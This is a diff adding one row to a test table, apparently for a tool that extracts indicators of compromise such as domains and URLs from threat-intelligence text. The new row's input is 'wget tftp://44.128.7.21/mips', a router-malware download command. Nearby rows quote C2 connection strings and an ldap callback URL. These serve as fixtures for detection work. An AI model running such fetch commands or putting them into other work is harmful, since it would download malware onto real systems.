@@ -391,6 +391,7 @@ KEPT = [
     ("FQDN", "C2: tcp://quota-demo.com:5555", "quota-demo.com", "a connection is no URL"),
     ("FQDN", "tls://quota-demo.zip:443", "quota-demo.zip", "one connects to no file"),
     ("URL", "ldap://44.128.7.21:1389/a", "ldap://44.128.7.21:1389/a", "the URL of a directory"),
+    ("URL", "wget tftp://44.128.7.21/mips", "tftp://44.128.7.21/mips", "what fetches programs for routers"),
     ("FQDN", "the payload.exe asks quota-demo.cc for orders", "quota-demo.cc", "beside a program"),
     ("FQDN", "quota-demo.cc\nquota-demo.pl\nmain.js\n", "quota-demo.cc", "beside a script"),
     ("FQDN", "main.c is clean.\n\nSeen today: quota-demo.cc and others", "quota-demo.cc", "a source in another line"),
